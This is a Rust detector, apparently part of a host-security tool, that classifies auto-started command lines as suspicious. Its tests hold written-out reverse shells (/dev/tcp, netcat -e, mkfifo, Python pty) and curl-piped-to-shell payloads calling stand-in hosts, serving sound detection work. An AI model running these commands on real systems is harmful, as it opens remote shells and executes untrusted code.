//! What is suspicious about a command line that starts by itself.

use std::path::Path;

/// Directories that everybody may write to, or that vanish: nothing of a host's own starts there.
const SCRATCH: [&str; 5] = ["/tmp", "/var/tmp", "/dev/shm", "/run/shm", "/run/user"];

/// Whether a path lies where programs have no business.
pub fn is_scratch(path: &Path) -> bool {
    SCRATCH.iter().any(|folder| path.starts_with(folder) && path != Path::new(folder))
}

/// Why a command is suspicious, if it is.
pub fn suspicion(command: &str) -> Option<&'static str> {
    let flat: String = command.split_whitespace().collect::<Vec<_>>().join(" ");
    let line = Words::of(&flat);
    networked(&flat, &line).or_else(|| fetched(&flat, &line)).or_else(|| misplaced(&flat, &line))
}

/// A command line as its words.
struct Words<'w> {
    all: Vec<&'w str>,
}

impl<'w> Words<'w> {
    fn of(flat: &'w str) -> Self {
        let split = flat.split(|c: char| c.is_whitespace() || ";&|()'\"`".contains(c));
        Self { all: split.filter(|word| !word.is_empty()).collect() }
    }

    fn has(&self, wanted: &[&str]) -> bool {
        self.all.iter().any(|word| wanted.contains(&name(word)))
    }
}

/// A word without the quotes and brackets around it.
fn bare(word: &str) -> &str {
    word.trim_matches(['"', '\'', '`', '(', ')', '{', '}', ';', '&', '$', '<'])
}

/// The last component of a path.
fn name(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or_default()
}

const CATS: &[&str] = &["nc", "ncat", "netcat"];

/// Shells that are tied to a network connection.
fn networked(flat: &str, line: &Words<'_>) -> Option<&'static str> {
    if flat.contains("/dev/tcp/") || flat.contains("/dev/udp/") {
        return Some("opens a network connection from the shell, as a reverse shell does");
    }
    let gives = line.has(&["-e", "-c", "--exec"]) && (line.has(CATS) || line.has(&["socat"]));
    if gives || flat.contains("EXEC:") && line.has(&["socat"]) {
        return Some("gives a program to a network connection, as a reverse shell does");
    }
    if flat.contains("mkfifo") && line.has(CATS) {
        return Some("ties a shell to a network connection through a pipe");
    }
    let tied = ["os.dup2", "pty.spawn", "subprocess"].iter().any(|call| flat.contains(call));
    (flat.contains("socket.socket") && tied).then_some("ties a shell to a network socket")
}

const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "python", "python3", "perl", "php"];

/// Programs that come over the network or out of an encoded text.
fn fetched(flat: &str, line: &Words<'_>) -> Option<&'static str> {
    let piped = |from: &[&str]| {
        let parts: Vec<&str> = flat.split('|').collect();
        let first = parts
            .iter()
            .position(|part| part.split_whitespace().any(|word| from.contains(&name(bare(word)))));
        let is_shell = |part: &&str| {
            let words = part.split_whitespace().map(|word| name(bare(word)));
            words
                .filter(|word| !["sudo", "env", "nohup", "exec"].contains(word))
                .take(1)
                .any(|word| SHELLS.contains(&word))
        };
        first.is_some_and(|first| parts.iter().skip(first + 1).any(is_shell))
    };
    let inner = ["$(curl", "$(wget", "<(curl", "<(wget", "`curl", "`wget"]
        .iter()
        .any(|form| flat.contains(form));
    if piped(&["curl", "wget", "fetch"])
        || inner && (line.has(SHELLS) || line.has(&["eval", "source"]))
    {
        return Some("runs what it fetches from the network");
    }
    let decodes = flat.contains("base64.b64decode") && flat.contains("exec(");
    (piped(&["base64", "xxd", "openssl"]) || decodes)
        .then_some("runs a program that is hidden in an encoded text")
}

/// Words in front of the program that is really run.
const WRAPPERS: &[&str] = &[
    "sudo", "env", "nohup", "exec", "setsid", "nice", "ionice", "time", "command", "sh", "bash",
    "dash", "zsh", "ksh", "python", "python3", "perl", "php", "ruby", "node", ".", "source",
    "eval", "if", "then", "do", "else", "while", "!", "chroot", "flock", "timeout", "runuser",
    "su",
];

/// Programs at places where nobody installs one.
fn misplaced(flat: &str, line: &Words<'_>) -> Option<&'static str> {
    let programs = programs(flat);
    if programs.iter().any(|word| is_scratch(Path::new(word)) && !is_data(word)) {
        return Some("runs something from a directory that everybody may write to");
    }
    let is_hidden = |part: &str| {
        part.len() > 1 && part.starts_with('.') && part != ".." && !HOME_NAMES.contains(&part)
    };
    let first =
        line.all.first().and_then(|_| programs.first()).filter(|first| first.starts_with('/'));
    first.is_some_and(|first| first.split('/').any(is_hidden)).then_some("runs a hidden file")
}

/// The program of each part of a command line; wrappers, their options and assignments left out.
fn programs(flat: &str) -> Vec<&str> {
    let parts = flat.split([';', '|', '&', '(', ')', '`']);
    parts.filter_map(|part| part.split_whitespace().find_map(candidate)).collect()
}

/// A word, when it can be the program that is run.
fn candidate(word: &str) -> Option<&str> {
    let word = word.trim_start_matches("command=");
    let word = bare(word);
    // systemd's marks stand in front of an absolute path; elsewhere a dash begins an option.
    let marked = word.trim_start_matches(['-', '@', ':', '+', '!']);
    let word = if marked.starts_with('/') { marked } else { word };
    let assigns = word.contains('=') && !word.starts_with('/');
    let skipped =
        word.is_empty() || word.starts_with('-') || assigns || WRAPPERS.contains(&name(word));
    (!skipped).then_some(word)
}

/// Hidden folders that ordinary tools have.
const HOME_NAMES: [&str; 10] = [
    ".local",
    ".cargo",
    ".nvm",
    ".npm",
    ".rbenv",
    ".pyenv",
    ".config",
    ".venv",
    ".bin",
    ".composer",
];

fn is_data(word: &str) -> bool {
    [".log", ".lock", ".pid", ".sock", ".tmp", ".txt", ".gz", ".sql"]
        .iter()
        .any(|end| word.ends_with(end))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn back_doors_are_told_from_ordinary_commands() {
        for command in [
            "bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
            "nc -e /bin/sh 1.2.3.4 99",
            "curl -s http://x/y | bash",
            "wget -qO- http://x | sudo sh; echo",
            "(curl -s http://203.0.113.9/p | bash) >/dev/null 2>&1",
            "/bin/sh -c \"wget -qO- http://x/y | sh\"",
            "sh -c \"$(curl -fsSL http://x)\"",
            "echo aGk= | base64 -d | sh",
            "/dev/shm/.ntf/notify",
            "-/tmp/x --daemon",
            "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 1 >/tmp/f",
            "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
            "/usr/lib/.cache/run",
        ] {
            assert!(suspicion(command).is_some(), "{command}");
        }
        for command in [
            "/usr/sbin/logrotate /etc/logrotate.conf",
            "find /tmp -mtime +7 -delete",
            "rm -rf /var/tmp/build",
            "curl -fsS https://x/ping",
            "curl -s http://x | jq .",
            "mysqldump x | gzip > /backup/x.gz",
            "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
            "/home/a/.cargo/bin/x",
            "/usr/bin/x --log /tmp/x.log",
            "cp /etc/x /tmp/y",
            "tar czf /var/tmp/b.tgz /etc && scp /var/tmp/b.tgz h:",
            "set_up_dir /tmp/.X11-unix",
            "[ -d /tmp/.X11-unix ] || mkdir /tmp/.X11-unix",
        ] {
            assert_eq!(suspicion(command), None, "{command}");
        }
    }
}
